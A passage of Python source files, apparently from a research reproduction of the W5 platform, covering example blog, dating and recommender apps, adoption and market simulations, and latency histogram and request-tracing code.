    return base + len(item.get("title", "")) * 0.01


def score_verbose(ctx: AppContext, item: dict[str, Any]) -> float:
    """Competing scorer: favors long posts."""
    return float(len(item.get("body", item.get("title", ""))))


MODULES = [
    AppModule("recommender", developer="devRec", handler=recommender,
              kind=APP, description="Top-k digest of friends' content.",
              imports=("score-recency", "social", "blog")),
    AppModule("score-recency", developer="devRec", handler=score_recency,
              kind=MODULE, description="Recency-flavored scoring."),
    AppModule("score-verbose", developer="devV", handler=score_verbose,
              kind=MODULE, description="Length-based scoring."),
]
