"""Online dating with user-uploaded compatibility metrics (§2 Examples).

"For an online-dating application, Bob can upload a custom
compatibility metric."  The metric is a module slot; anyone can fork
the default and publish their own, and each user's searches run
*their* chosen metric over the candidate pool — code the user picked,
executing server-side over data the candidates allowed it to read.

Routes (under ``/app/dating/...``):

* ``join``    — params: bio (opt in to the dating pool)
* ``matches`` — params: k (default 3): top-k compatible members
"""

from __future__ import annotations

from typing import Any

from ..labels import Label
from ..platform import APP, AppContext, AppModule, MODULE

POOL = "dating_pool"


def _ensure_table(ctx: AppContext) -> None:
    from ..db import TableExists
    try:
        ctx.db.create_table(POOL, indexes=["user"])
    except TableExists:
        pass


def dating(ctx: AppContext) -> Any:
    parts = ctx.request.path_parts()
    action = parts[2] if len(parts) > 2 else "matches"
    _ensure_table(ctx)
    if ctx.viewer is None:
        return {"error": "log in first"}

    if action == "join":
        ctx.read_user(ctx.viewer)
        ctx.db.insert(POOL, {"user": ctx.viewer,
                             "bio": ctx.request.param("bio", "")},
                      slabel=Label([ctx.tag_for(ctx.viewer)]),
                      ilabel=Label([ctx.write_tag_for(ctx.viewer)]))
        return {"joined": ctx.viewer}

    if action == "matches":
        k = int(ctx.request.param("k", 3))
        ctx.read_user(ctx.viewer)
        me_rows = ctx.db.select(POOL, where={"user": ctx.viewer})
        if not me_rows:
            return {"error": "join first"}
        my_profile = ctx.profile_of(ctx.viewer)
        candidates = []
        for member in ctx.users():
            if member == ctx.viewer:
                continue
            try:
                ctx.read_user(member)
            except Exception:
                continue  # member did not enable this app
            rows = ctx.db.select(POOL, where={"user": member})
            if not rows:
                continue
            their_profile = ctx.profile_of(member)
            score = ctx.call_module("metric", "metric-shared-tastes",
                                    my_profile, their_profile)
            candidates.append({"user": member, "score": score})
        candidates.sort(key=lambda c: c["score"], reverse=True)
        return {"matches": candidates[:k]}

    return {"error": f"unknown action {action}"}


def metric_shared_tastes(ctx: AppContext, mine: dict[str, str],
                         theirs: dict[str, str]) -> float:
    """Default metric: count shared profile fields."""
    return float(sum(1 for key in mine
                     if key in theirs and mine[key] == theirs[key]))


def metric_opposites(ctx: AppContext, mine: dict[str, str],
                     theirs: dict[str, str]) -> float:
    """Bob's custom upload: opposites attract."""
    return float(sum(1 for key in mine
                     if key in theirs and mine[key] != theirs[key]))


MODULES = [
    AppModule("dating", developer="devCupid", handler=dating, kind=APP,
              description="Find compatible members with your own metric.",
              imports=("metric-shared-tastes",)),
    AppModule("metric-shared-tastes", developer="devCupid",
              handler=metric_shared_tastes, kind=MODULE,
              description="Similarity metric."),
    AppModule("metric-opposites", developer="bob", handler=metric_opposites,
              kind=MODULE, description="Bob's custom metric."),
]
