"""Blogging on W5 (Figure 2's second application).

Posts are rows in the shared labeled store, each carrying its author's
secrecy and write tags — the same data a photo app could also read if
the author enabled it, which is the whole point: applications are
decoupled from data (§1).

Routes (under ``/app/blog/...``):

* ``post`` — params: title, body
* ``list`` — params: author (defaults to viewer)
* ``read`` — params: author, title
* ``edit`` — params: author, title, body (exercises write protection)
"""

from __future__ import annotations

from typing import Any

from ..labels import Label
from ..platform import APP, AppContext, AppModule

TABLE = "blog_posts"


def _ensure_table(ctx: AppContext) -> None:
    if ctx.db.has_table(TABLE):
        return
    from ..db import TableExists
    try:
        ctx.db.create_table(TABLE, indexes=["author"])
    except TableExists:
        pass


def blog(ctx: AppContext) -> Any:
    parts = ctx.request.path_parts()
    action = parts[2] if len(parts) > 2 else "list"
    _ensure_table(ctx)
    if ctx.viewer is None:
        return {"error": "log in first"}

    if action == "post":
        ctx.read_user(ctx.viewer)
        ctx.db.insert(TABLE, {"author": ctx.viewer,
                              "title": ctx.request.param("title"),
                              "body": ctx.request.param("body")},
                      slabel=Label([ctx.tag_for(ctx.viewer)]),
                      ilabel=Label([ctx.write_tag_for(ctx.viewer)]))
        return {"posted": ctx.request.param("title")}

    if action == "list":
        author = ctx.request.param("author", ctx.viewer)
        ctx.read_user(author)
        rows = ctx.db.select(TABLE, where={"author": author})
        return {"author": author, "titles": [r["title"] for r in rows]}

    if action == "read":
        author = ctx.request.param("author", ctx.viewer)
        ctx.read_user(author)
        title = ctx.request.param("title")
        rows = ctx.db.select(TABLE, where={"author": author},
                             predicate=lambda r: r["title"] == title)
        if not rows:
            return {"error": "no such post"}
        return {"author": author, "title": rows[0]["title"],
                "body": rows[0]["body"]}

    if action == "edit":
        author = ctx.request.param("author", ctx.viewer)
        ctx.read_user(author)
        changed = ctx.db.update(
            TABLE, where={"author": author},
            predicate=lambda r: r["title"] == ctx.request.param("title"),
            changes={"body": ctx.request.param("body")})
        return {"edited": changed}

    return {"error": f"unknown action {action}"}


MODULES = [
    AppModule("blog", developer="devBlog", handler=blog, kind=APP,
              description="Write and read blog posts."),
]
