"""Ecosystem dynamics: adoption/network-effect models (§3.4)."""

from .adoption import (AdoptionCurve, compare_platforms, conversion_friction,
                       simulate_adoption)
from .market import (MarketApp, MarketOutcome, compare_editorial_controls,
                     simulate_market)

__all__ = ["AdoptionCurve", "compare_platforms", "conversion_friction",
           "simulate_adoption",
           "MarketApp", "MarketOutcome", "compare_editorial_controls",
           "simulate_market"]
