"""Adoption dynamics: the §3.4 incentive story as a simulation.

The paper conjectures that W5's lower barrier to entry — signup "simply
by checking a box" instead of re-entering data — together with network
effects will "lead to a burgeoning set of Web applications".  That is
an economic claim, not a systems claim; we model it with a standard
Bass-style diffusion process whose single W5-specific parameter is
**conversion friction**: the probability that a user who has decided
to try the app actually completes signup.

* On W5, trying an app is one click: friction ≈ 1.
* On the siloed Web, trying an app means re-uploading your data:
  friction decays with the number of items to move.

Everything else (innovation/imitation coefficients, population) is
held equal, so the output isolates the architecture's effect.  The
model is labeled *illustrative* in EXPERIMENTS.md — it shows the
direction and rough magnitude of the claimed effect, not a forecast.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from typing import Optional


@dataclass
class AdoptionCurve:
    """Result of one simulated launch."""

    platform: str
    adopters_by_step: list[int]
    population: int

    def time_to_fraction(self, fraction: float) -> Optional[int]:
        """First step reaching ``fraction`` of the population, or None."""
        target = fraction * self.population
        for step, count in enumerate(self.adopters_by_step):
            if count >= target:
                return step
        return None

    @property
    def final_share(self) -> float:
        if not self.adopters_by_step or not self.population:
            return 0.0
        return self.adopters_by_step[-1] / self.population


def conversion_friction(items_to_migrate: int,
                        per_item_cost: float = 0.08) -> float:
    """Probability a willing user completes a status-quo signup.

    Each item to re-upload independently risks abandonment; the W5
    checkbox corresponds to ``items_to_migrate == 0`` → friction 1.0.
    """
    return (1.0 - per_item_cost) ** max(0, items_to_migrate)


def simulate_adoption(population: int = 1000, steps: int = 60,
                      innovation: float = 0.01, imitation: float = 0.4,
                      friction: float = 1.0, platform: str = "w5",
                      seed: int = 17) -> AdoptionCurve:
    """Bass-style diffusion with a completion-friction multiplier.

    Each step, every non-adopter *attempts* adoption with probability
    ``innovation + imitation * adopted_fraction`` and *completes* it
    with probability ``friction``.
    """
    if not 0.0 <= friction <= 1.0:
        raise ValueError("friction must be within [0, 1]")
    rng = random.Random(seed)
    adopted = 0
    curve = []
    for __ in range(steps):
        fraction = adopted / population if population else 0.0
        p_attempt = min(1.0, innovation + imitation * fraction)
        p_adopt = p_attempt * friction
        remaining = population - adopted
        # binomial draw over the remaining population
        new = sum(1 for __ in range(remaining) if rng.random() < p_adopt)
        adopted += new
        curve.append(adopted)
    return AdoptionCurve(platform=platform, adopters_by_step=curve,
                         population=population)


def compare_platforms(population: int = 1000, steps: int = 60,
                      items_to_migrate: int = 25, seed: int = 17
                      ) -> dict[str, AdoptionCurve]:
    """The C7 head-to-head: identical app, identical population, the
    only difference is signup friction."""
    w5 = simulate_adoption(population=population, steps=steps,
                           friction=1.0, platform="w5", seed=seed)
    silo = simulate_adoption(
        population=population, steps=steps,
        friction=conversion_friction(items_to_migrate),
        platform="status-quo", seed=seed)
    return {"w5": w5, "status-quo": silo}
