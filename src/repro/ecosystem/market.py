"""The application market under editorial pressure (§3.2).

"One can imagine applications, in an attempt to entrench themselves,
writing out user data in proprietary format [...] Nothing in W5
prevents such behavior, but W5 editorial controls can discourage it,
just as their analogues do for antisocial software on today's
desktops."

A small market simulation makes the claim measurable.  Apps have an
intrinsic ``quality`` and an ``antisocial`` flag (proprietary formats,
lock-in).  Each round, users pick apps by a score that mixes quality,
popularity, and — when editorial controls are on — an editorial
penalty on flagged apps (editors audit a fraction of the catalog per
round and flag what they find).  Anti-social apps also get a captive
retention bonus: their users churn less because leaving costs data —
precisely the lock-in the paper wants the market to punish rather than
reward.  The C11 experiment compares anti-social market share with and
without editors.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field


@dataclass
class MarketApp:
    """One application competing for users."""

    name: str
    quality: float
    antisocial: bool = False
    flagged: bool = False
    users: int = 0


@dataclass
class MarketOutcome:
    """Result of one simulated market."""

    editorial_controls: bool
    share_by_step: list[float]   # anti-social share of all users
    apps: list[MarketApp] = field(default_factory=list)

    @property
    def final_antisocial_share(self) -> float:
        return self.share_by_step[-1] if self.share_by_step else 0.0


def simulate_market(n_apps: int = 20, antisocial_fraction: float = 0.3,
                    population: int = 2000, steps: int = 50,
                    editorial_controls: bool = True,
                    audit_rate: float = 0.15,
                    editorial_penalty: float = 0.6,
                    lock_in_retention: float = 0.25,
                    seed: int = 41) -> MarketOutcome:
    """Run the market.

    ``audit_rate`` — fraction of unaudited apps editors inspect per
    round; ``editorial_penalty`` — multiplicative score penalty once
    flagged; ``lock_in_retention`` — extra per-round retention an
    anti-social app enjoys from captive data.
    """
    rng = random.Random(seed)
    apps = []
    for i in range(n_apps):
        antisocial = rng.random() < antisocial_fraction
        # anti-social developers spend on polish, not interop:
        # quality is drawn from the same distribution
        apps.append(MarketApp(name=f"app-{i}",
                              quality=rng.uniform(0.3, 1.0),
                              antisocial=antisocial))
    if not any(a.antisocial for a in apps):
        apps[0].antisocial = True  # keep the experiment meaningful

    # users start uniformly distributed
    base = population // n_apps
    for app in apps:
        app.users = base

    share_by_step = []
    for __ in range(steps):
        # editors audit
        if editorial_controls:
            for app in apps:
                if app.antisocial and not app.flagged \
                        and rng.random() < audit_rate:
                    app.flagged = True

        # each app's attractiveness this round
        total_users = sum(a.users for a in apps) or 1

        def score(app: MarketApp) -> float:
            s = app.quality * (0.5 + 0.5 * app.users / total_users)
            if app.flagged:
                s *= (1.0 - editorial_penalty)
            return s

        scores = {a.name: score(a) for a in apps}
        score_total = sum(scores.values()) or 1.0

        # churn: a slice of each app's users reconsiders
        movers = []
        for app in apps:
            churn = 0.2
            if app.antisocial:
                churn *= (1.0 - lock_in_retention)
            leaving = int(app.users * churn)
            app.users -= leaving
            movers.append(leaving)
        pool = sum(movers)
        # movers redistribute proportionally to score
        assigned = 0
        for app in apps[:-1]:
            take = int(pool * scores[app.name] / score_total)
            app.users += take
            assigned += take
        apps[-1].users += pool - assigned

        anti = sum(a.users for a in apps if a.antisocial)
        share_by_step.append(anti / (sum(a.users for a in apps) or 1))

    return MarketOutcome(editorial_controls=editorial_controls,
                         share_by_step=share_by_step, apps=apps)


def compare_editorial_controls(seed: int = 41, **kw) -> dict[str, MarketOutcome]:
    """The C11 head-to-head: identical market, editors on vs off."""
    return {
        "with editors": simulate_market(editorial_controls=True,
                                        seed=seed, **kw),
        "without editors": simulate_market(editorial_controls=False,
                                           seed=seed, **kw),
    }
