"""Observability: request tracing, latency histograms, flight recorder.

The instrument panel for the W5 stack.  ``Provider(tracing=True)``
turns it on; with it off, the shared :data:`NULL_TRACER` keeps every
instrumentation site allocation-free.  See ``docs/OBSERVABILITY.md``.
"""

from .export import (chrome_trace, render_text, trace_to_dict,
                     validate_chrome_trace)
from .fleet import (FleetRegistry, RemoteCapture, fabric_health,
                    parse_prometheus, prometheus_text, provider_health)
from .histogram import LatencyHistogram
from .recorder import FlightRecorder
from .trace import (MAX_SPANS_PER_TRACE, NULL_TRACER, NullTracer, Span,
                    Trace, TraceContext, Tracer)

__all__ = [
    "LatencyHistogram", "FlightRecorder",
    "Tracer", "NullTracer", "NULL_TRACER", "Span", "Trace",
    "TraceContext", "MAX_SPANS_PER_TRACE",
    "trace_to_dict", "render_text", "chrome_trace",
    "validate_chrome_trace",
    "FleetRegistry", "RemoteCapture", "prometheus_text",
    "parse_prometheus", "provider_health", "fabric_health",
]
