"""Fixed-bucket log2 latency histograms with percentile estimates.

``Metrics._LatencyStat`` (the M-cache era aggregator) could answer
"what was the mean flow-check latency" and nothing else — useless for
the tail-latency questions a platform serving millions of users must
answer ("is p99 regressing?").  :class:`LatencyHistogram` replaces it:
every observation lands in one of 64 power-of-two nanosecond buckets
(``[2^i, 2^(i+1))``), so

* recording is O(1) and allocation-free (one ``int.bit_length`` and a
  list increment — no stored samples, no sorting);
* memory is constant (64 ints) no matter how many observations arrive;
* p50/p95/p99 are estimated by rank-walking the cumulative counts and
  interpolating linearly inside the target bucket, clamped to the
  exact observed min/max — the estimate error is bounded by the bucket
  width (a factor of 2 worst case, far less in practice because real
  latency mass clusters);
* histograms **merge** exactly (bucket-wise addition), so per-worker
  or per-trace histograms can be combined without loss — the property
  the hypothesis round-trip test in ``tests/obs/test_histogram.py``
  pins down.

Count/total/min/max are tracked exactly, so every key the old
``_LatencyStat.as_dict()`` exposed is reproduced bit-for-bit
compatibly; the percentile keys ride alongside.
"""

from __future__ import annotations

from typing import Any, Iterable

#: Number of power-of-two buckets: bucket i covers [2^i, 2^(i+1)) ns,
#: bucket 0 additionally absorbs 0 ns.  2^63 ns is ~292 years, so the
#: top bucket is unreachable for any real latency.
BUCKETS = 64


class LatencyHistogram:
    """Streaming latency aggregate: exact moments + log2 buckets.

    Observations are seconds (floats, as ``time.perf_counter`` deltas
    come); buckets are nanoseconds internally because integer
    ``bit_length`` is the cheapest possible log2.
    """

    __slots__ = ("count", "total", "min", "max", "buckets")

    def __init__(self) -> None:
        self.count = 0
        self.total = 0.0
        self.min = float("inf")
        self.max = 0.0
        self.buckets = [0] * BUCKETS

    # ------------------------------------------------------------------
    # recording
    # ------------------------------------------------------------------

    def add(self, seconds: float) -> None:
        """Record one observation (negative values clamp to zero)."""
        if seconds < 0.0:
            seconds = 0.0
        self.count += 1
        self.total += seconds
        if seconds < self.min:
            self.min = seconds
        if seconds > self.max:
            self.max = seconds
        ns = int(seconds * 1e9)
        # floor(log2(ns)) for ns >= 1; ns == 0 shares bucket 0 with 1 ns
        idx = ns.bit_length() - 1
        if idx < 0:
            idx = 0
        elif idx >= BUCKETS:
            idx = BUCKETS - 1
        self.buckets[idx] += 1

    def merge(self, other: "LatencyHistogram") -> "LatencyHistogram":
        """Fold ``other`` into self (exact: bucket-wise addition)."""
        self.count += other.count
        self.total += other.total
        if other.min < self.min:
            self.min = other.min
        if other.max > self.max:
            self.max = other.max
        mine = self.buckets
        for i, n in enumerate(other.buckets):
            if n:
                mine[i] += n
        return self

    # ------------------------------------------------------------------
    # reads
    # ------------------------------------------------------------------

    def percentile(self, q: float) -> float:
        """Estimated ``q``-quantile in seconds (``q`` in [0, 1]).

        Rank-walks the cumulative bucket counts to the bucket holding
        the target rank, interpolates linearly inside it, and clamps to
        the exact observed min/max so single-observation and
        tight-distribution cases come out exact.
        """
        if self.count == 0:
            return 0.0
        if q <= 0.0:
            return self.min
        if q >= 1.0:
            return self.max
        # 1-based target rank among `count` sorted observations.
        rank = q * (self.count - 1) + 1.0
        seen = 0
        for i, n in enumerate(self.buckets):
            if not n:
                continue
            if seen + n >= rank:
                lo = 0.0 if i == 0 else float(1 << i)
                hi = float(1 << (i + 1))
                # position of the target rank inside this bucket
                frac = (rank - seen - 1.0) / n if n > 1 else 0.5
                est = (lo + (hi - lo) * frac) * 1e-9
                return min(max(est, self.min), self.max)
            seen += n
        return self.max  # pragma: no cover - rank always lands above

    def as_dict(self) -> dict[str, float]:
        """The ``_LatencyStat``-compatible view plus percentile keys."""
        return {
            "count": self.count,
            "total_s": self.total,
            "mean_us": (self.total / self.count * 1e6) if self.count else 0.0,
            "min_us": (self.min * 1e6) if self.count else 0.0,
            "max_us": self.max * 1e6,
            "p50_us": self.percentile(0.50) * 1e6,
            "p95_us": self.percentile(0.95) * 1e6,
            "p99_us": self.percentile(0.99) * 1e6,
        }

    def snapshot(self) -> dict[str, Any]:
        """A serializable dump (used by the trace report command).

        Carries the raw seconds-valued moments (``min_s``/``max_s``
        alongside the display ``total_s``) so
        :meth:`from_snapshot` reconstructs the histogram exactly —
        the sharded trace report and the fleet registry merge
        snapshots across process boundaries without rounding drift.
        """
        out = {**self.as_dict(),
               "buckets": {i: n for i, n in enumerate(self.buckets) if n}}
        if self.count:
            out["min_s"] = self.min
            out["max_s"] = self.max
        return out

    @classmethod
    def from_snapshot(cls, snap: dict[str, Any]) -> "LatencyHistogram":
        """Rebuild a histogram from :meth:`snapshot` output (M16).

        The inverse direction of the exact-merge property: per-shard
        histograms cross the fork engine's pipe (or any JSON dump) as
        snapshots and merge bucket-exactly on the other side.  JSON
        round-trips turn bucket keys into strings; both spellings are
        accepted.
        """
        h = cls()
        h.count = int(snap.get("count", 0))
        h.total = float(snap.get("total_s", 0.0))
        if h.count:
            h.min = float(snap.get("min_s", snap.get("min_us", 0.0) / 1e6))
            h.max = float(snap.get("max_s", snap.get("max_us", 0.0) / 1e6))
        for i, n in (snap.get("buckets") or {}).items():
            h.buckets[int(i)] = int(n)
        return h

    @classmethod
    def from_values(cls, values: Iterable[float]) -> "LatencyHistogram":
        """Convenience constructor (tests and offline analysis)."""
        h = cls()
        for v in values:
            h.add(v)
        return h

    def __repr__(self) -> str:  # pragma: no cover - cosmetic
        d = self.as_dict()
        return (f"LatencyHistogram(n={self.count}, "
                f"p50={d['p50_us']:.1f}us, p99={d['p99_us']:.1f}us)")
