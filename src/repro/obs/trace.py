"""Request tracing: span trees with propagated context.

W5's accountability story (paper §2) needs more than the audit log's
flat stream of decisions: one ``Provider.handle_request`` call fans
out into dozens of flow checks, a pool checkout, IPC hops, db scans
and an export check, and nothing ties them back to the request that
caused them.  The classical fix (X-Trace, Dapper) is a per-request
**trace context** carried through every layer; this module is that
context for the in-process W5 stack.

* :class:`Span` — one timed operation (monotonic clock), with a name
  drawn from the span taxonomy (``gateway.admission``,
  ``kernel.checkout``, ``db.select``, …), key=value attributes, and
  child spans nested
  under it.  Spans are context managers; an exception propagating
  through one marks it ``status="error"`` and re-raises.
* :class:`Trace` — the tree for one request: root span, id, and a
  per-trace span budget so a pathological request can't balloon
  memory (overflow is counted, never silently lost).
* :class:`Tracer` — owns the active trace context, hands out child
  spans, aggregates per-span-name
  :class:`~repro.obs.histogram.LatencyHistogram` s, and feeds finished
  traces to an attached :class:`~repro.obs.recorder.FlightRecorder`.
  The active-trace state (open trace, innermost span, fold flag)
  lives in a per-execution-context :class:`_TraceContext` behind a
  ``contextvars.ContextVar``, so shard worker threads (M13) each see
  their own "current span" without locking; spans cache the context
  object at creation, so the hot close path never touches the
  contextvar machinery.
* :class:`NullTracer` / :data:`NULL_TRACER` — the disabled path.  It
  shares the ``enabled`` flag protocol so hot code can guard with one
  attribute load, and every method returns a preallocated singleton —
  tracing off means **zero allocations** on the request path.

Correlation with the audit log: the provider installs the tracer
itself as ``AuditLog.trace_source``; the log reads ``tracer.current``
(one attribute load, no call) so every ``AuditEvent`` recorded inside
a traced request carries ``trace_id``/``span_id`` in ``extra``.
"""

from __future__ import annotations

from contextvars import ContextVar
from time import perf_counter
from typing import Any, Callable, Iterator, NamedTuple, Optional

from .histogram import LatencyHistogram

#: Per-trace span budget.  A blog read needs ~10 spans; 512 is room
#: for the most fan-out-heavy request while bounding a runaway loop.
MAX_SPANS_PER_TRACE = 512

class TraceContext(NamedTuple):
    """The wire form of an open span: what crosses a shard or
    federation boundary (M16).

    Deliberately tiny and picklable — it rides the thread engine's
    queue tuples and the fork engine's pipe frames unchanged.  The
    remote side opens its own root trace under this context
    (:class:`repro.obs.fleet.RemoteCapture`); ``fold`` pins the
    sampling decision so a detail-sampled request is detail-sampled on
    every shard it touches, and an unsampled one stays cheap
    everywhere.
    """

    #: The originating trace's id (unique per tracer, not globally;
    #: stitched exports qualify it with the origin name).
    trace_id: str
    #: The span the remote subtree re-parents under.
    span_id: int
    #: The origin's detail-sampling decision, inherited remotely.
    fold: bool


#: Default child-histogram sampling period: 1-in-16 traces fold their
#: child spans into the per-name latency histograms (root spans always
#: fold, so request-level percentiles stay exact).  Folding every span
#: of every trace costs a dict probe + histogram add per span — real
#: money on a ~70µs request; sampling keeps per-name shapes while
#: amortizing that to ~nothing (benchmarks/m11_tracing.py).
FOLD_EVERY = 16


class _TraceContext:
    """Per-execution-context trace state.

    One instance per (tracer, thread/task) pair, created lazily on the
    first ``request()`` in that context and reused for every request
    after it — so the steady-state cost of context isolation is a
    single ``ContextVar.get`` per span creation, not an allocation.
    ``current`` is the innermost open span; ``trace`` the open trace;
    ``fold`` whether this context's active trace is detail-sampled.
    """

    __slots__ = ("trace", "current", "fold")

    def __init__(self) -> None:
        self.trace: Optional[Trace] = None
        self.current: Optional[Span] = None
        self.fold = True


class Span:
    """One timed operation inside a trace.

    Children attach at creation (so the tree exists even if rendering
    happens mid-request); timing happens in the context-manager
    protocol.  ``duration`` is ``None`` until the span closes.
    """

    __slots__ = ("name", "span_id", "trace", "_children", "attrs",
                 "start", "duration", "status", "_prev")

    def __init__(self, name: str, trace: "Trace",
                 parent: Optional["Span"], attrs: dict[str, Any]) -> None:
        self.name = name
        self.trace = trace
        # children hold the tree; no parent back-pointer is stored, so
        # a closed span tree is acyclic and dies by refcount instead
        # of waiting for the cycle collector.  The list itself is
        # lazy: most spans are leaves, and skipping the allocation is
        # measurable (benchmarks/m11_tracing.py)
        self._children: Optional[list[Span]] = None
        self.attrs = attrs
        self.duration: Optional[float] = None
        self.status = "ok"
        trace.n_spans = n = trace.n_spans + 1
        self.span_id = n
        self._prev = parent
        if parent is not None:
            pc = parent._children
            if pc is None:
                parent._children = [self]
            else:
                pc.append(self)
        # the span is born armed: the context switch and the clock
        # read happen here rather than in __enter__, saving a second
        # full method call's worth of work per span on the hot path.
        # The trace carries its _TraceContext, so arming is one plain
        # attribute store — no ContextVar traffic on span open/close.
        trace.ctx.current = self
        self.start = perf_counter()

    @property
    def children(self) -> tuple["Span", ...]:
        """Child spans in creation order (empty for leaves)."""
        c = self._children
        return tuple(c) if c else ()

    def annotate(self, **attrs: Any) -> None:
        """Attach key=value attributes after the span opened."""
        self.attrs.update(attrs)

    def fail(self, reason: str) -> None:
        """Mark this span (and its trace) failed without an exception
        in flight — for denials handled inline, like an export refusal
        turned into a 403."""
        self.status = "error"
        self.attrs.setdefault("error", reason)
        self.trace.failed = True

    def __enter__(self) -> "Span":
        return self

    def __exit__(self, exc_type, exc, tb) -> None:
        # the request-path hot spot: everything inlined (histogram
        # fold, root finalization) to keep enabled-tracing overhead
        # inside the M11 budget — see benchmarks/m11_tracing.py
        duration = perf_counter() - self.start
        self.duration = duration
        trace = self.trace
        if exc_type is not None:
            self.status = "error"
            self.attrs.setdefault("error", exc_type.__name__)
            trace.failed = True
        tracer = trace.tracer
        ctx = trace.ctx
        ctx.current = prev = self._prev
        self._prev = None  # drop the ancestor edge (GC, see __init__)
        # only the root span has no previous current span
        if prev is None and self is trace.root:
            # root spans always fold: request-level histograms stay
            # exact even when child folding is sampled
            hists = tracer._histograms
            hist = hists.get(self.name)
            if hist is None:
                hist = hists[self.name] = LatencyHistogram()
            hist.add(duration)
            ctx.trace = None
            trace.ctx = None  # type: ignore[assignment]
            tracer.traces_finished += 1
            sink = tracer.sink
            if sink is not None:
                sink(trace)
        else:
            if ctx.fold:
                hists = tracer._histograms
                hist = hists.get(self.name)
                if hist is None:
                    hist = hists[self.name] = LatencyHistogram()
                hist.add(duration)
            # closed non-root spans never need the up-edge again;
            # dropping it leaves root -> children as a pure tree
            self.trace = None  # type: ignore[assignment]
        # never suppress: tracing must not change control flow

    def __repr__(self) -> str:  # pragma: no cover - cosmetic
        dur = f"{self.duration * 1e6:.1f}us" if self.duration else "open"
        return f"Span({self.name!r}, {dur}, children={len(self.children)})"


class _NullSpan:
    """The do-nothing span.  One instance serves every disabled site."""

    __slots__ = ()
    name = "null"
    span_id = 0
    duration: Optional[float] = None
    status = "ok"
    children: tuple = ()
    attrs: dict = {}

    def annotate(self, **attrs: Any) -> None:
        pass

    def fail(self, reason: str) -> None:
        pass

    def __enter__(self) -> "_NullSpan":
        return self

    def __exit__(self, exc_type, exc, tb) -> None:
        pass


#: Shared no-op span: returned whenever tracing is off, no trace is
#: active, or the per-trace span budget is exhausted.
_NULL_SPAN = _NullSpan()


class Trace:
    """The span tree for one request."""

    __slots__ = ("trace_id", "tracer", "ctx", "root", "n_spans",
                 "truncated", "failed", "grafts")

    def __init__(self, trace_id: str, tracer: "Tracer",
                 ctx: _TraceContext) -> None:
        self.trace_id = trace_id
        self.tracer = tracer
        #: The execution context this trace is open in.  Spans reach
        #: the mutable current-span slot through it; cleared when the
        #: root closes so a recorded trace doesn't pin the context.
        self.ctx = ctx
        self.n_spans = 0
        self.truncated = 0
        #: Latched by any span closing with an exception in flight.
        self.failed = False
        self.root: Optional[Span] = None
        #: Remote span skeletons stitched under this trace's spans:
        #: ``(parent_span_id, origin, skeleton_dict)`` tuples appended
        #: by :meth:`Tracer.graft` (M16).  Lazily allocated — local
        #: traces never pay for the slot.
        self.grafts: Optional[list[tuple[int, str, dict]]] = None

    @property
    def name(self) -> str:
        return self.root.name if self.root is not None else "?"

    @property
    def duration(self) -> float:
        if self.root is None or self.root.duration is None:
            return 0.0
        return self.root.duration

    @property
    def error(self) -> bool:
        """Did this request fail?  True if any span closed with an
        exception in flight (latched into :attr:`failed` at span
        close — mutating ``span.status`` after the fact does not
        retroactively flag the trace) or the response status stamped
        by the provider was a client/server error."""
        if self.failed:
            return True
        root = self.root
        if root is None:
            return False
        status = root.attrs.get("status")
        return isinstance(status, int) and status >= 400

    def walk(self) -> Iterator[Span]:
        """All spans, depth-first from the root."""
        if self.root is None:
            return
        stack = [self.root]
        while stack:
            span = stack.pop()
            yield span
            c = span._children
            if c:
                stack.extend(reversed(c))

    def __repr__(self) -> str:  # pragma: no cover - cosmetic
        return (f"Trace({self.trace_id}, {self.name!r}, "
                f"spans={self.n_spans})")


class Tracer:
    """Owns the active trace and aggregates span latency histograms.

    The active-span "stack" lives in a per-execution-context
    :class:`_TraceContext` behind a ``ContextVar``, so N shard worker
    threads can trace through one process concurrently without seeing
    each other's spans (M13).  Within one context the semantics are
    exactly the old single-attribute protocol: each span's
    ``__exit__`` restores its predecessor by plain attribute store.
    Aggregates (``traces_started``, histograms, the sink) are shared
    across contexts; their updates are single dict/int ops, atomic
    under the GIL, and each shard normally owns a whole Tracer anyway.
    """

    enabled = True

    def __init__(self, max_spans: int = MAX_SPANS_PER_TRACE,
                 fold_every: int = FOLD_EVERY) -> None:
        self.max_spans = max_spans
        #: Child-span histogram sampling: every ``fold_every``-th trace
        #: folds its child spans into the per-name histograms (roots
        #: always fold, so request-level latency stays exact).  1 means
        #: every span of every trace — what the unit tests use.
        self.fold_every = fold_every
        #: Per-context trace state (lazily created per thread/task).
        self._context: ContextVar[Optional[_TraceContext]] = ContextVar(
            "w5-trace-context", default=None)
        self._next_trace = 0
        self._histograms: dict[str, LatencyHistogram] = {}
        #: Called with each finished root trace (FlightRecorder.offer).
        self.sink: Optional[Callable[[Trace], None]] = None
        #: The upstream :class:`TraceContext` while this tracer serves
        #: a remote parent (set by ``repro.obs.fleet.RemoteCapture``):
        #: new roots inherit its fold decision instead of rolling
        #: their own, so sampling is consistent fleet-wide.
        self._remote: Optional[TraceContext] = None
        self.traces_started = 0
        self.traces_finished = 0
        self.spans_dropped = 0

    @property
    def current(self) -> Optional[Span]:
        """The innermost open span in *this* execution context
        (public: ``AuditLog.trace_source`` reads it to stamp events)."""
        ctx = self._context.get()
        return ctx.current if ctx is not None else None

    @property
    def _fold(self) -> bool:
        """Is the active trace in this context detail-sampled?  Hot
        call sites read this as an attribute (it is a plain ``False``
        class attribute on :class:`NullTracer`)."""
        ctx = self._context.get()
        return ctx.fold if ctx is not None else False

    # ------------------------------------------------------------------
    # span creation
    # ------------------------------------------------------------------

    def request(self, name: str, /, **attrs: Any) -> Span:
        """Open the root span of a new trace.

        Nested calls (an app invoking another app through the same
        provider) degrade gracefully to a child span of the active
        trace rather than starting a second trace.
        """
        ctx = self._context.get()
        if ctx is None:
            ctx = _TraceContext()
            self._context.set(ctx)
        elif ctx.trace is not None:
            return self.span(name, **attrs)
        self._next_trace += 1
        self.traces_started += 1
        remote = self._remote
        if remote is not None:
            # serving a remote parent: inherit its sampling decision
            ctx.fold = remote.fold
        else:
            fe = self.fold_every
            ctx.fold = fe == 1 or self.traces_started % fe == 1
        trace = Trace(f"{self._next_trace:08x}", self, ctx)
        ctx.trace = trace
        trace.root = span = Span(name, trace, None, attrs)
        return span

    def span(self, name: str, /, **attrs: Any):
        """Open a child span under the current one.

        Outside any trace (setup work, untraced maintenance calls)
        this returns the shared null span, so instrumentation sites
        don't need their own "is a request in flight" checks.
        """
        ctx = self._context.get()
        if ctx is None:
            return _NULL_SPAN
        trace = ctx.trace
        if trace is None:
